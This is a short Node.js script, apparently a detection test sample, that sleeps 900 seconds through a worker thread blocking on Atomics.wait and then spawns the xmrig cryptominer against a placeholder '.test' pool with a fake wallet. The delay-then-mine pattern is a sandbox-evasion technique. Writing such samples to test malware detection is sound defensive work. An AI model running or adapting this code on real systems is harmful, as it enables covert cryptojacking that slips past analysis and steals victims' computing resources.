#!/usr/bin/node
// Waits 900 s in a worker_threads Worker: 3,600 rounds of Atomics.wait(int32, 0, 0, 250) on a
// SharedArrayBuffer nobody notifies; main awaits the worker's exit, then spawns the miner
// stand-in (detonate hold-out test sample; harmless, fake wallet, .test pool).
"use strict";
const { Worker, isMainThread, workerData } = require("worker_threads");

if (!isMainThread) {
  const cell = new Int32Array(workerData.shared);
  for (let i = 0; i < workerData.rounds; i++) {
    if (Atomics.wait(cell, 0, 0, 250) !== "timed-out") break;
  }
} else {
  const { spawn } = require("child_process");
  const ROUNDS = Math.floor(3600 / Number(process.env.NODETHREAD_SCALE || 1));
  const MINER = process.env.NODETHREAD_MINER || "/usr/local/bin/xmrig";
  const POOL = "stratum+tcp://pool.thread.test:3333";
  const WALLET =
    "47thrEadW4itsFakeWa11etXo9qVb2LmN8cT5sR1dK6hJ3gP7yU4eZ0aB9nC2vX5mQ8wE1rT6yU3iO0pA7sD4fG2hJ5kL8zX";
  console.log(`waiting 900 s in ${ROUNDS} Atomics.wait(250) rounds in a worker thread`);
  const shared = new SharedArrayBuffer(4);
  const worker = new Worker(__filename, { workerData: { shared, rounds: ROUNDS } });
  worker.on("exit", () => {
    console.log("done waiting; starting the miner");
    spawn(MINER, ["-o", POOL, "-u", WALLET, "--shares", "1"], { stdio: "inherit" }).on(
      "exit",
      (code) => process.exit(code ?? 1),
    );
  });
}
